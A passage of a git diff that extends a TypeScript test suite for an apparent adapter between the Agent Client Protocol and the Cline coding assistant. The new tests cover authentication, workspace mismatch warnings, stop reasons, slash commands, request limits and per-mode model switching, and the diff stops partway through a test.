@@ -5,39 +5,106 @@
  * Following TDD approach: tests first, implementation follows.
  */
 
+import { spawn, spawnSync } from "child_process";
+import * as fs from "fs";
+import * as os from "os";
+import * as path from "path";
 import { describe, it, expect, vi, beforeEach } from "vitest";
-import { AgentSideConnection } from "@agentclientprotocol/sdk";
+import {
+  AgentSideConnection,
+  CreateTerminalRequest,
+  SessionNotification,
+} from "@agentclientprotocol/sdk";
 import {
   ClineMessage,
   ClineMessageType,
   ClineAsk,
+  AskResponseType,
   ClineSay,
   ClineClient,
+  ClineProtoMessage,
+  TaskService,
+  StateService,
+  UiService,
+  ModelsService,
+  BrowserService,
   PlanActMode,
+  SpendingBudgets,
   StateUpdate,
 } from "../cline/types.js";
 import { ClineAcpAgent } from "../cline/cline-acp-agent.js";
+import { ClineMcpSettingsFile, DailyUsageStore } from "../cline/storage.js";
+import { checkBudgets } from "../cline/budget.js";
+import { ModelCatalog } from "../cline/model-catalog.js";
+import { ClineHealthMonitor, isInstanceAlive } from "../cline/health-monitor.js";
+import { getModeModel, parseModelOptionId } from "../cline/providers.js";
+import { parseSlashCommand } from "../cline/slash-commands.js";
+import { CommandTerminalMirror } from "../cline/terminal-mirror.js";
+import { ClineInstancePool } from "../cline/instance-pool.js";
+import { ClineProcessManager } from "../cline/process-manager.js";
+import {
+  ClineVersionError,
+  SUPPORTED_CLINE_VERSIONS,
+  checkClineVersion,
+  compareVersions,
+  parseVersion,
+} from "../cline/compat.js";
 import {
+  acpMcpServersToCline,
+  sessionMcpServerName,
   acpPromptToCline,
+  applySearchReplaceDiff,
+  buildFileEditDiff,
+  clineMcpResponseToAcpToolCallUpdate,
   clineMessageToAcpNotification,
+  clineMessagesToAcpHistory,
   clinePartialToAcpNotification,
+  fromProtoMessage,
   clineTaskProgressToAcpPlan,
   createCurrentModeUpdate,
   extractCostInfo,
+  extractCurrentModelId,
   extractMessagesFromState,
   extractMode,
+  extractWorkspaceRoots,
+  isWorkspaceRoot,
+  getAskOptions,
+  getChunkText,
   getLatestTaskProgress,
+  getTurnStopReason,
   parseToolInfo,
   parseTaskProgressToPlanEntries,
   clineToolAskToAcpToolCall,
   clineSayToolToAcpToolCallInProgress,
   createToolCallUpdate,
   isTaskComplete,
+  isUnknownAsk,
   isWaitingForUserInput,
   needsApproval,
+  toIncrementalChunk,
 } from "../cline/conversion.js";
+import {
+  approvalRuleForMessage,
+  describeApprovalRule,
+  findMatchingApprovalRule,
+  getCommandPrefix,
+} from "../cline/approval-rules.js";
 
 // Mock Cline gRPC client factory
+// A service with only the given RPCs mocked; calling any other RPC fails the test
+function mockService<S extends object>(rpcs: Partial<S>): S {
+  return new Proxy(rpcs, {
+    get(target, name) {
+      if (name in target || typeof name !== "string" || name === "then") {
+        return Reflect.get(target, name);
+      }
+      return () => {
+        throw new Error(`Unmocked Cline RPC: ${name}`);
+      };
+    },
+  }) as S;
+}
+
 function createMockClineClient(): ClineClient {
   const stateUpdates: StateUpdate[] = [];
   const partialMessages: ClineMessage[] = [];
@@ -48,16 +115,22 @@ function createMockClineClient(): ClineClient {
     apiConfiguration: {
       planModeApiProvider: "CLINE",
       actModeApiProvider: "CLINE",
+      clineAccountId: "test-account",
     },
   };
 
+  // Only the RPCs the agent calls are mocked
   return {
-    Task: {
-      newTask: vi.fn().mockResolvedValue("task-123"),
+    Task: mockService<TaskService>({
+      newTask: vi.fn().mockResolvedValue({ value: "task-123" }),
       askResponse: vi.fn().mockResolvedValue(undefined),
       cancelTask: vi.fn().mockResolvedValue(undefined),
-    },
-    State: {
+      cancelBackgroundCommand: vi.fn().mockResolvedValue(undefined),
+      clearTask: vi.fn().mockResolvedValue(undefined),
+      showTaskWithId: vi.fn().mockResolvedValue({ id: "task-123" }),
+      getTaskHistory: vi.fn().mockResolvedValue({ tasks: [], totalCount: 0 }),
+    }),
+    State: mockService<StateService>({
       subscribeToState: vi.fn().mockReturnValue({
         async *[Symbol.asyncIterator]() {
           for (const update of stateUpdates) {
@@ -69,9 +142,9 @@ function createMockClineClient(): ClineClient {
       togglePlanActModeProto: vi.fn().mockResolvedValue(undefined),
       updateAutoApprovalSettings: vi.fn().mockResolvedValue(undefined),
       updateSettings: vi.fn().mockResolvedValue(undefined),
-      getProcessInfo: vi.fn().mockResolvedValue({ pid: 1234, address: "localhost:50051" }),
-    },
-    Ui: {
+      getProcessInfo: vi.fn().mockResolvedValue({ processId: 1234, version: "3.37.0" }),
+    }),
+    Ui: mockService<UiService>({
       subscribeToPartialMessage: vi.fn().mockReturnValue({
         async *[Symbol.asyncIterator]() {
           for (const msg of partialMessages) {
@@ -79,16 +152,23 @@ function createMockClineClient(): ClineClient {
           }
         },
       }),
-    },
-    Models: {
-      refreshOpenRouterModels: vi.fn().mockResolvedValue({
+    }),
+    Models: mockService<ModelsService>({
+      refreshOpenAiModels: vi.fn().mockResolvedValue({ values: [] }),
+      refreshRequestyModels: vi.fn().mockResolvedValue({ models: {} }),
+      refreshGroqModelsRpc: vi.fn().mockResolvedValue({ models: {} }),
+      refreshHuggingFaceModels: vi.fn().mockResolvedValue({ models: {} }),
+      refreshBasetenModelsRpc: vi.fn().mockResolvedValue({ models: {} }),
+      refreshVercelAiGatewayModelsRpc: vi.fn().mockResolvedValue({ models: {} }),
+      refreshOpenRouterModelsRpc: vi.fn().mockResolvedValue({
         models: {
           "anthropic/claude-sonnet-4": { name: "Claude Sonnet 4" },
           "x-ai/grok-3": { name: "Grok 3" },
           "claude-sonnet-4-20250514": { name: "Claude Sonnet 4", maxTokens: 8192 },
         },
       }),
-    },
+    }),
+    Browser: mockService<BrowserService>({}),
   };
 }
 
@@ -156,6 +236,106 @@ describe("ClineAcpAgent", () => {
     });
   });
 
+  describe("authentication", () => {
+    function createAgentWithConfig(apiConfiguration: Record<string, unknown>) {
+      const clineClient = createMockClineClient();
+      let state = { mode: "plan", apiConfiguration };
+      vi.mocked(clineClient.State.getLatestState).mockImplementation(async () => ({
+        stateJson: JSON.stringify(state),
+      }));
+      // Settings updates are reflected in later state reads, as in Cline
+      vi.mocked(clineClient.State.updateSettings).mockImplementation(async (request) => {
+        state = {
+          ...state,
+          apiConfiguration: { ...state.apiConfiguration, ...request?.apiConfiguration },
+        };
+        return {};
+      });
+      const agent = new ClineAcpAgent({ clineClient, autoStart: false });
+      agent.setClient(createMockConnection());
+      return { agent, clineClient };
+    }
+
+    it("should list the active provider's auth method first", async () => {
+      const { agent } = createAgentWithConfig({ planModeApiProvider: "ANTHROPIC" });
+
+      const response = await agent.initialize({ protocolVersion: 1, clientCapabilities: {} });
+
+      expect(response.authMethods?.map((method) => method.id)).toEqual([
+        "anthropic-api-key",
+        "cline-api-key",
+        "openrouter-api-key",
+        "openai-compatible",
+      ]);
+    });
+
+    it("should refuse sessions when the provider has no credentials", async () => {
+      const { agent } = createAgentWithConfig({ planModeApiProvider: "ANTHROPIC" });
+
+      await expect(agent.newSession({ cwd: "/test", mcpServers: [] })).rejects.toMatchObject({
+        code: -32000,
+        data: { mode: "plan", provider: "anthropic" },
+      });
+    });
+
+    it("should not require credentials for local providers", async () => {
+      const { agent } = createAgentWithConfig({
+        planModeApiProvider: "OLLAMA",
+        actModeApiProvider: "LMSTUDIO",
+      });
+
+      await expect(agent.newSession({ cwd: "/test", mcpServers: [] })).resolves.toBeDefined();
+    });
+
+    it("should store the API key in Cline's settings", async () => {
+      const { agent, clineClient } = createAgentWithConfig({
+        planModeApiProvider: "ANTHROPIC",
+        actModeApiProvider: "ANTHROPIC",
+      });
+
+      await agent.authenticate({ methodId: "anthropic-api-key", _meta: { apiKey: "sk-ant-123" } });
+
+      expect(clineClient.State.updateSettings).toHaveBeenCalledWith({
+        apiConfiguration: {
+          apiKey: "sk-ant-123",
+          planModeApiProvider: "ANTHROPIC",
+          actModeApiProvider: "ANTHROPIC",
+        },
+      });
+      await expect(agent.newSession({ cwd: "/test", mcpServers: [] })).resolves.toBeDefined();
+    });
+
+    it("should switch modes without credentials to the authenticated provider", async () => {
+      const { agent, clineClient } = createAgentWithConfig({
+        planModeApiProvider: "ANTHROPIC",
+        actModeApiProvider: "OLLAMA",
+      });
+
+      await agent.authenticate({
+        methodId: "openai-compatible",
+        _meta: { baseUrl: "http://llm.internal/v1" },
+      });
+
+      expect(clineClient.State.updateSettings).toHaveBeenCalledWith({
+        apiConfiguration: {
+          openAiBaseUrl: "http://llm.internal/v1",
+          planModeApiProvider: "OPENAI",
+        },
+      });
+    });
+
+    it("should reject an authenticate request without the secret", async () => {
+      const { agent } = createAgentWithConfig({});
+
+      await expect(agent.authenticate({ methodId: "anthropic-api-key" })).rejects.toThrow(
+        /_meta.apiKey/,
+      );
+      await expect(agent.authenticate({ methodId: "password" })).rejects.toThrow(
+        /Unknown auth method/,
+      );
+    });
+  });
+
   describe("newSession()", () => {
     it("should create a new session with unique ID", async () => {
       await agent.initialize({
@@ -242,6 +422,53 @@ describe("ClineAcpAgent", () => {
       expect(session).toBeDefined();
       expect(session?.taskId).toBeDefined();
     });
+
+    it("should bind the session to the client's cwd", async () => {
+      const response = await agent.newSession({ cwd: "/test/path", mcpServers: [] });
+
+      expect(agent.getSession(response.sessionId)?.cwd).toBe("/test/path");
+    });
+
+    it("should not warn when Cline is rooted in the session cwd", async () => {
+      vi.mocked(mockClineClient.State.getLatestState).mockResolvedValue({
+        stateJson: JSON.stringify({ workspaceRoots: [{ path: "/test/path/" }] }),
+      });
+
+      const response = await agent.newSession({ cwd: "/test/path", mcpServers: [] });
+
+      expect(agent.getSession(response.sessionId)?.workspaceWarning).toBeUndefined();
+    });
+
+    it("should warn on the first prompt when Cline runs in another workspace", async () => {
+      vi.mocked(mockClineClient.State.getLatestState).mockResolvedValue({
+        stateJson: JSON.stringify({ workspaceRoots: [{ path: "/other/project" }] }),
+      });
+
+      const response = await agent.newSession({ cwd: "/test/path", mcpServers: [] });
+      await agent.prompt({ sessionId: response.sessionId, prompt: [{ type: "text", text: "Hi" }] });
+      await agent.prompt({ sessionId: response.sessionId, prompt: [{ type: "text", text: "Hi" }] });
+
+      const warnings = vi
+        .mocked(mockConnection.sessionUpdate)
+        .mock.calls.map(([notification]) => getChunkText(notification))
+        .filter((text) => text?.includes("Cline is working in /other/project, not /test/path"));
+      expect(warnings).toHaveLength(1);
+    });
+
+    it("should refuse mismatched workspaces when requireMatchingWorkspace is set", async () => {
+      vi.mocked(mockClineClient.State.getLatestState).mockResolvedValue({
+        stateJson: JSON.stringify({ workspaceRoots: [{ path: "/other/project" }] }),
+      });
+      const strictAgent = new ClineAcpAgent({
+        clineClient: mockClineClient,
+        requireMatchingWorkspace: true,
+      });
+      strictAgent.setClient(mockConnection);
+
+      await expect(strictAgent.newSession({ cwd: "/test/path", mcpServers: [] })).rejects.toThrow(
+        "Cline is working in /other/project, not /test/path",
+      );
+    });
   });
 
   describe("prompt()", () => {
@@ -307,6 +534,331 @@ describe("ClineAcpAgent", () => {
       // Verify session updates were sent
       expect(mockConnection.sessionUpdate).toHaveBeenCalled();
     });
+
+    describe("stopReason", () => {
+      // Run a prompt whose state stream ends on the given ask
+      async function promptEndingWith(ask: string): Promise<string> {
+        await agent.initialize({ protocolVersion: 1, clientCapabilities: {} });
+        const session = await agent.newSession({ cwd: "/test/path", mcpServers: [] });
+        vi.mocked(agent.getClineClient()!.State.subscribeToState).mockReturnValue({
+          async *[Symbol.asyncIterator]() {
+            yield {
+              stateJson: JSON.stringify({
+                clineMessages: [{ ts: 5000, type: "ask", ask, text: "Stopped" }],
+              }),
+            };
+          },
+        });
+
+        const response = await agent.prompt({
+          sessionId: session.sessionId,
+          prompt: [{ type: "text", text: "Hello" }],
+        });
+        return response.stopReason;
+      }
+
+      it("should return end_turn when Cline finishes normally", async () => {
+        expect(await promptEndingWith("completion_result")).toBe("end_turn");
+      });
+
+      it("should return refusal when the API request failed", async () => {
+        expect(await promptEndingWith("api_req_failed")).toBe("refusal");
+      });
+
+      it("should return max_turn_requests when the user stops at a request limit", async () => {
+        vi.mocked(mockConnection.requestPermission).mockResolvedValue({
+          outcome: { outcome: "selected", optionId: "stop" },
+        });
+        expect(await promptEndingWith("mistake_limit_reached")).toBe("max_turn_requests");
+      });
+
+      it("should end the turn on an unknown ask type", async () => {
+        expect(await promptEndingWith("some_future_ask")).toBe("end_turn");
+      });
+
+      it("should return cancelled when the session is cancelled mid-turn", async () => {
+        await agent.initialize({ protocolVersion: 1, clientCapabilities: {} });
+        const session = await agent.newSession({ cwd: "/test/path", mcpServers: [] });
+        vi.mocked(agent.getClineClient()!.State.subscribeToState).mockReturnValue({
+          async *[Symbol.asyncIterator]() {
+            await agent.cancel({ sessionId: session.sessionId });
+            yield {
+              stateJson: JSON.stringify({
+                clineMessages: [{ ts: 5000, type: "say", say: "text", text: "Working" }],
+              }),
+            };
+          },
+        });
+
+        const response = await agent.prompt({
+          sessionId: session.sessionId,
+          prompt: [{ type: "text", text: "Hello" }],
+        });
+
+        expect(response.stopReason).toBe("cancelled");
+      });
+    });
+  });
+
+  describe("suggested options", () => {
+    const followup = {
+      ts: 5000,
+      type: "ask",
+      ask: "followup",
+      text: JSON.stringify({ question: "Which framework?", options: ["React", "Vue"] }),
+    };
+
+    async function promptWithFollowup(optionId: string) {
+      await agent.initialize({ protocolVersion: 1, clientCapabilities: {} });
+      const session = await agent.newSession({ cwd: "/test/path", mcpServers: [] });
+      vi.mocked(agent.getClineClient()!.State.subscribeToState).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          yield { stateJson: JSON.stringify({ clineMessages: [followup] }) };
+          yield {
+            stateJson: JSON.stringify({
+              clineMessages: [
+                followup,
+                { ts: 6000, type: "ask", ask: "completion_result", text: "Done" },
+              ],
+            }),
+          };
+        },
+      });
+      vi.mocked(mockConnection.requestPermission).mockResolvedValue({
+        outcome: { outcome: "selected", optionId },
+      });
+
+      return agent.prompt({
+        sessionId: session.sessionId,
+        prompt: [{ type: "text", text: "Build an app" }],
+      });
+    }
+
+    it("should offer the options as choices", async () => {
+      await promptWithFollowup("reply");
+
+      const request = vi.mocked(mockConnection.requestPermission).mock.calls[0][0];
+      expect(request.options.map((option) => option.name)).toEqual([
+        "React",
+        "Vue",
+        "Reply in chat",
+      ]);
+    });
+
+    it("should send the chosen option as the reply and keep going", async () => {
+      await promptWithFollowup("option-1");
+
+      expect(agent.getClineClient()!.Task.askResponse).toHaveBeenCalledWith({
+        responseType: AskResponseType.MESSAGE_RESPONSE,
+        text: "Vue",
+        images: [],
+      });
+      // The turn continued to the completion result instead of stopping at the question
+      expect(mockConnection.requestPermission).toHaveBeenCalledTimes(1);
+    });
+
+    it("should end the turn when the user replies in chat", async () => {
+      const response = await promptWithFollowup("reply");
+
+      expect(agent.getClineClient()!.Task.askResponse).not.toHaveBeenCalled();
+      expect(response.stopReason).toBe("end_turn");
+    });
+  });
+
+  describe("slash commands", () => {
+    async function startSession() {
+      await agent.initialize({ protocolVersion: 1, clientCapabilities: {} });
+      return agent.newSession({ cwd: "/test/path", mcpServers: [] });
+    }
+
+    function sendPrompt(sessionId: string, text: string) {
+      return agent.prompt({ sessionId, prompt: [{ type: "text", text }] });
+    }
+
+    function replies(): string[] {
+      return vi
+        .mocked(mockConnection.sessionUpdate)
+        .mock.calls.map(([notification]) => getChunkText(notification))
+        .filter((text): text is string => !!text);
+    }
+
+    it("should advertise commands after creating a session", async () => {
+      const session = await startSession();
+
+      await vi.waitFor(() => {
+        const update = vi
+          .mocked(mockConnection.sessionUpdate)
+          .mock.calls.map(([notification]) => notification)
+          .find((n) => n.update.sessionUpdate === "available_commands_update");
+        expect(update?.sessionId).toBe(session.sessionId);
+        expect(
+          update?.update.sessionUpdate === "available_commands_update" &&
+            update.update.availableCommands.map((command) => command.name),
+        ).toEqual(["new", "plan", "act", "cost", "history", "condense", "cancel-command"]);
+      });
+    });
+
+    it("should switch modes without sending the command to Cline", async () => {
+      const session = await startSession();
+      const clineClient = agent.getClineClient()!;
+
+      const response = await sendPrompt(session.sessionId, "/act");
+
+      expect(response.stopReason).toBe("end_turn");
+      expect(clineClient.State.togglePlanActModeProto).toHaveBeenCalledWith({
+        metadata: {},
+        mode: PlanActMode.ACT,
+      });
+      expect(clineClient.Task.newTask).not.toHaveBeenCalled();
+      expect(agent.getSession(session.sessionId)?.mode).toBe("act");
+    });
+
+    it("should send the rest of a mode command as the prompt", async () => {
+      const session = await startSession();
+
+      await sendPrompt(session.sessionId, "/plan Add a login page");
+
+      expect(agent.getClineClient()!.Task.newTask).toHaveBeenCalledWith(
+        expect.objectContaining({ text: "Add a login page" }),
+      );
+    });
+
+    it("should clear the task and start a fresh one with /new", async () => {
+      const session = await startSession();
+      const clineClient = agent.getClineClient()!;
+      await sendPrompt(session.sessionId, "First task");
+
+      await sendPrompt(session.sessionId, "/new Second task");
+
+      expect(clineClient.Task.clearTask).toHaveBeenCalled();
+      expect(clineClient.Task.newTask).toHaveBeenCalledTimes(2);
+      expect(clineClient.Task.newTask).toHaveBeenLastCalledWith(
+        expect.objectContaining({ text: "Second task" }),
+      );
+    });
+
+    it("should report the session's usage with /cost", async () => {
+      const session = await startSession();
+      agent.getSession(session.sessionId)!.totalCost = 0.25;
+      agent.getSession(session.sessionId)!.totalTokensIn = 1500;
+
+      await sendPrompt(session.sessionId, "/cost");
+
+      const reply = replies().find((text) => text.includes("Cost"));
+      expect(reply).toContain("$0.2500");
+      expect(reply).toContain("1,500 in");
+    });
+
+    it("should list recent tasks with /history", async () => {
+      const session = await startSession();
+      vi.mocked(agent.getClineClient()!.Task.getTaskHistory).mockResolvedValue({
+        tasks: [
+          {
+            id: "task-1",
+            task: "Fix the build",
+            ts: 0,
+            isFavorited: false,
+            size: 0,
+            totalCost: 0,
+            tokensIn: 0,
+            tokensOut: 0,
+            cacheWrites: 0,
+            cacheReads: 0,
+            modelId: "",
+          },
+        ],
+        totalCount: 1,
+      });
+
+      await sendPrompt(session.sessionId, "/history");
+
+      expect(replies().find((text) => text.includes("Recent tasks"))).toContain(
+        "Fix the build (`task-1`)",
+      );
+    });
+
+    it("should condense through Cline's own command", async () => {
+      const session = await startSession();
+      await sendPrompt(session.sessionId, "First task");
+
+      await sendPrompt(session.sessionId, "/condense");
+
+      expect(agent.getClineClient()!.Task.askResponse).toHaveBeenCalledWith(
+        expect.objectContaining({ text: "/smol" }),
+      );
+    });
+
+    it("should stop the background command with /cancel-command", async () => {
+      const session = await startSession();
+
+      await sendPrompt(session.sessionId, "/cancel-command");
+
+      expect(agent.getClineClient()!.Task.cancelBackgroundCommand).toHaveBeenCalled();
+    });
+
+    it("should pass commands it doesn't know through to Cline", async () => {
+      const session = await startSession();
+
+      await sendPrompt(session.sessionId, "/newrule always use tabs");
+
+      expect(agent.getClineClient()!.Task.newTask).toHaveBeenCalledWith(
+        expect.objectContaining({ text: "/newrule always use tabs" }),
+      );
+    });
+  });
+
+  describe("request limits", () => {
+    async function promptHittingLimit(ask: string, optionId: string) {
+      await agent.initialize({ protocolVersion: 1, clientCapabilities: {} });
+      const session = await agent.newSession({ cwd: "/test/path", mcpServers: [] });
+      vi.mocked(agent.getClineClient()!.State.subscribeToState).mockReturnValue({
+        async *[Symbol.asyncIterator]() {
+          yield {
+            stateJson: JSON.stringify({
+              clineMessages: [
+                { ts: 5000, type: "ask", ask, text: "Cline has auto-approved 20 API requests." },
+              ],
+            }),
+          };
+        },
+      });
+      vi.mocked(mockConnection.requestPermission).mockResolvedValue({
+        outcome: { outcome: "selected", optionId },
+      });
+      // newSession cancels any leftover task; only count cancels from the prompt
+      vi.mocked(agent.getClineClient()!.Task.cancelTask).mockClear();
+
+      return agent.prompt({
+        sessionId: session.sessionId,
+        prompt: [{ type: "text", text: "Hello" }],
+      });
+    }
+
+    it("should ask whether to continue, showing the reason", async () => {
+      await promptHittingLimit("auto_approval_max_req_reached", "continue");
+
+      const request = vi.mocked(mockConnection.requestPermission).mock.calls[0][0];
+      expect(request.options.map((option) => option.name)).toEqual(["Continue anyway", "Stop"]);
+      expect(request.toolCall.title).toBe("Cline has auto-approved 20 API requests.");
+    });
+
+    it("should answer Cline with YES when the user continues", async () => {
+      const response = await promptHittingLimit("mistake_limit_reached", "continue");
+
+      const clineClient = agent.getClineClient()!;
+      expect(clineClient.Task.askResponse).toHaveBeenCalledWith({
+        responseType: AskResponseType.YES_BUTTON_CLICKED,
+      });
+      expect(clineClient.Task.cancelTask).not.toHaveBeenCalled();
+      expect(response.stopReason).toBe("end_turn");
+    });
+
+    it("should cancel the task when the user stops", async () => {
+      const response = await promptHittingLimit("auto_approval_max_req_reached", "stop");
+
+      expect(agent.getClineClient()!.Task.cancelTask).toHaveBeenCalled();
+      expect(response.stopReason).toBe("max_turn_requests");
+    });
   });
 
   describe("cancel()", () => {
@@ -426,6 +978,32 @@ describe("ClineAcpAgent", () => {
         mode: PlanActMode.ACT,
       });
     });
+
+    it("should report the new mode's model", async () => {
+      const session = await agent.newSession({ cwd: "/test/path", mcpServers: [] });
+      vi.mocked(mockClineClient.State.getLatestState).mockResolvedValue({
+        stateJson: JSON.stringify({
+          mode: "act",
+          apiConfiguration: {
+            planModeApiProvider: "anthropic",
+            planModeApiModelId: "claude-opus-4",
+            actModeApiProvider: "anthropic",
+            actModeApiModelId: "claude-sonnet-4",
+          },
+        }),
+      });
+
+      await agent.setSessionMode({ sessionId: session.sessionId, modeId: "act" });
+
+      expect(mockConnection.sessionUpdate).toHaveBeenCalledWith({
+        sessionId: session.sessionId,
+        update: {
+          sessionUpdate: "current_mode_update",
+          currentModeId: "act",
+          _meta: { currentModelId: "anthropic:claude-sonnet-4" },
+        },
+      });
+    });
   });
 
   describe("setSessionModel()", () => {
@@ -452,1103 +1030,3246 @@ describe("ClineAcpAgent", () => {
         expect.objectContaining({
           apiConfiguration: expect.objectContaining({
             planModeOpenRouterModelId: "claude-sonnet-4-20250514",
-            actModeOpenRouterModelId: "claude-sonnet-4-20250514",
             planModeApiModelId: "claude-sonnet-4-20250514",
-            actModeApiModelId: "claude-sonnet-4-20250514",
             // Model info is required for CLINE/OpenRouter providers
             planModeOpenRouterModelInfo: expect.objectContaining({
               name: "Claude Sonnet 4",
               maxTokens: 8192,
             }),
-            actModeOpenRouterModelInfo: expect.objectContaining({
-              name: "Claude Sonnet 4",
-              maxTokens: 8192,
-            }),
           }),
         }),
       );
     });
-  });
-});
 
-describe("ACP to Cline conversion", () => {
-  describe("acpPromptToCline()", () => {
-    it("should concatenate text content blocks", () => {
-      const clinePrompt = acpPromptToCline({
-        sessionId: "test",
-        prompt: [
-          { type: "text", text: "Hello " },
-          { type: "text", text: "World" },
-        ],
+    it("should only change the model of the current mode", async () => {
+      const clineClient = createMockClineClient();
+      vi.mocked(clineClient.State.getLatestState).mockResolvedValue({
+        stateJson: JSON.stringify({
+          mode: "act",
+          apiConfiguration: {
+            planModeApiProvider: "CLINE",
+            actModeApiProvider: "OLLAMA",
+            clineAccountId: "test-account",
+          },
+        }),
       });
+      const agent = new ClineAcpAgent({ clineClient, autoStart: false });
+      agent.setClient(createMockConnection());
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+      vi.mocked(clineClient.Models.refreshOpenRouterModelsRpc).mockClear();
 
-      expect(clinePrompt.text).toBe("Hello \nWorld");
-      expect(clinePrompt.images).toBeUndefined();
-      expect(clinePrompt.files).toBeUndefined();
-    });
+      await agent.setSessionModel({ sessionId: session.sessionId, modelId: "qwen2.5-coder" });
 
-    it("should convert resource_link to files array", () => {
-      const clinePrompt = acpPromptToCline({
-        sessionId: "test",
-        prompt: [
-          { type: "text", text: "Check this file: " },
-          { type: "resource_link", uri: "file:///path/to/file.ts", name: "file.ts" },
-        ],
+      expect(clineClient.State.updateSettings).toHaveBeenCalledWith({
+        apiConfiguration: {
+          actModeApiProvider: "OLLAMA",
+          actModeApiModelId: "qwen2.5-coder",
+          actModeOllamaModelId: "qwen2.5-coder",
+        },
       });
-
-      expect(clinePrompt.text).toBe("Check this file: ");
-      expect(clinePrompt.files).toEqual(["/path/to/file.ts"]);
+      expect(clineClient.Models.refreshOpenRouterModelsRpc).not.toHaveBeenCalled();
     });
 
-    it("should append embedded resource text content", () => {
-      const clinePrompt = acpPromptToCline({
-        sessionId: "test",
-        prompt: [
-          { type: "text", text: "Here is the code: " },
-          {
-            type: "resource",
-            resource: {
-              uri: "file:///path/to/code.ts",
-              text: "const x = 1;",
-            },
-          },
-        ],
+    it("should change both modes when they share a model", async () => {
+      const clineClient = createMockClineClient();
+      const agent = new ClineAcpAgent({
+        clineClient,
+        autoStart: false,
+        sameModelForBothModes: true,
       });
+      agent.setClient(createMockConnection());
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
 
-      expect(clinePrompt.text).toContain("Here is the code: ");
-      expect(clinePrompt.text).toContain("const x = 1;");
-      expect(clinePrompt.text).toContain("[Resource: file:///path/to/code.ts]");
-    });
+      await agent.setSessionModel({
+        sessionId: session.sessionId,
+        modelId: "claude-sonnet-4-20250514",
+      });
 
-    it("should create data URL from base64 image data", () => {
-      const redPixelPng =
-        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==";
-
-      const clinePrompt = acpPromptToCline({
-        sessionId: "test",
-        prompt: [
-          { type: "text", text: "Check this image: " },
-          { type: "image", data: redPixelPng, mimeType: "image/png" },
-        ],
+      expect(clineClient.State.updateSettings).toHaveBeenCalledWith({
+        apiConfiguration: expect.objectContaining({
+          planModeOpenRouterModelId: "claude-sonnet-4-20250514",
+          actModeOpenRouterModelId: "claude-sonnet-4-20250514",
+          planModeApiModelId: "claude-sonnet-4-20250514",
+          actModeApiModelId: "claude-sonnet-4-20250514",
+        }),
       });
-
-      expect(clinePrompt.text).toBe("Check this image: ");
-      expect(clinePrompt.images).toBeDefined();
-      expect(clinePrompt.images!.length).toBe(1);
-      // Cline expects data URLs, not file paths
-      expect(clinePrompt.images![0]).toMatch(/^data:image\/png;base64,/);
-      expect(clinePrompt.images![0]).toContain(redPixelPng);
     });
 
-    it("should use correct MIME type for data URL", () => {
-      const jpegData = "/9j/4AAQSkZJRgABAQAAAQABAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8UHRof";
+    it("should switch the mode's provider for a provider:model id", async () => {
+      const clineClient = createMockClineClient();
+      const agent = new ClineAcpAgent({ clineClient, autoStart: false });
+      agent.setClient(createMockConnection());
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
 
-      const clinePrompt = acpPromptToCline({
-        sessionId: "test",
-        prompt: [{ type: "image", data: jpegData, mimeType: "image/jpeg" }],
+      await agent.setSessionModel({
+        sessionId: session.sessionId,
+        modelId: "litellm:gpt-4o",
+      });
+      await agent.setSessionModel({
+        sessionId: session.sessionId,
+        modelId: "ollama:qwen2.5-coder:7b",
       });
 
-      expect(clinePrompt.images![0]).toMatch(/^data:image\/jpeg;base64,/);
+      expect(clineClient.State.updateSettings).toHaveBeenNthCalledWith(1, {
+        apiConfiguration: {
+          planModeApiProvider: "LITELLM",
+          planModeApiModelId: "gpt-4o",
+          planModeLiteLlmModelId: "gpt-4o",
+        },
+      });
+      expect(clineClient.State.updateSettings).toHaveBeenNthCalledWith(2, {
+        apiConfiguration: {
+          planModeApiProvider: "OLLAMA",
+          planModeApiModelId: "qwen2.5-coder:7b",
+          planModeOllamaModelId: "qwen2.5-coder:7b",
+        },
+      });
     });
 
-    it("should default to image/png when MIME type not provided", () => {
-      const pngData = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==";
+    it("should set model info for providers that need it", async () => {
+      const clineClient = createMockClineClient();
+      vi.mocked(clineClient.Models.refreshGroqModelsRpc).mockResolvedValue({
+        models: {
+          "llama-3.3-70b-versatile": {
+            name: "Llama 3.3 70B",
+            contextWindow: 131072,
+            supportsPromptCache: false,
+            tiers: [],
+          },
+        },
+      });
+      const agent = new ClineAcpAgent({ clineClient, autoStart: false });
+      agent.setClient(createMockConnection());
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
 
-      const clinePrompt = acpPromptToCline({
-        sessionId: "test",
-        prompt: [{ type: "image", data: pngData } as any],
+      await agent.setSessionModel({
+        sessionId: session.sessionId,
+        modelId: "groq:llama-3.3-70b-versatile",
       });
 
-      expect(clinePrompt.images![0]).toMatch(/^data:image\/png;base64,/);
+      expect(clineClient.State.updateSettings).toHaveBeenCalledWith({
+        apiConfiguration: expect.objectContaining({
+          planModeApiProvider: "GROQ",
+          planModeGroqModelId: "llama-3.3-70b-versatile",
+          planModeGroqModelInfo: {
+            name: "Llama 3.3 70B",
+            contextWindow: 131072,
+            supportsPromptCache: false,
+            tiers: [],
+          },
+        }),
+      });
     });
 
-    it("should skip images with empty data when no file URI", () => {
-      const clinePrompt = acpPromptToCline({
-        sessionId: "test",
-        prompt: [
-          { type: "text", text: "Check this image: " },
-          // Empty data and no valid file URI
-          { type: "image", data: "", mimeType: "image/png" },
-        ],
+    it("should report the current mode's model for a new session", async () => {
+      const clineClient = createMockClineClient();
+      vi.mocked(clineClient.State.getLatestState).mockResolvedValue({
+        stateJson: JSON.stringify({
+          mode: "act",
+          apiConfiguration: {
+            planModeApiProvider: "CLINE",
+            planModeOpenRouterModelId: "cheap/planner",
+            actModeApiProvider: "CLINE",
+            actModeOpenRouterModelId: "strong/executor",
+            clineAccountId: "test-account",
+          },
+        }),
       });
+      const agent = new ClineAcpAgent({ clineClient, autoStart: false });
+      agent.setClient(createMockConnection());
 
-      expect(clinePrompt.text).toBe("Check this image: ");
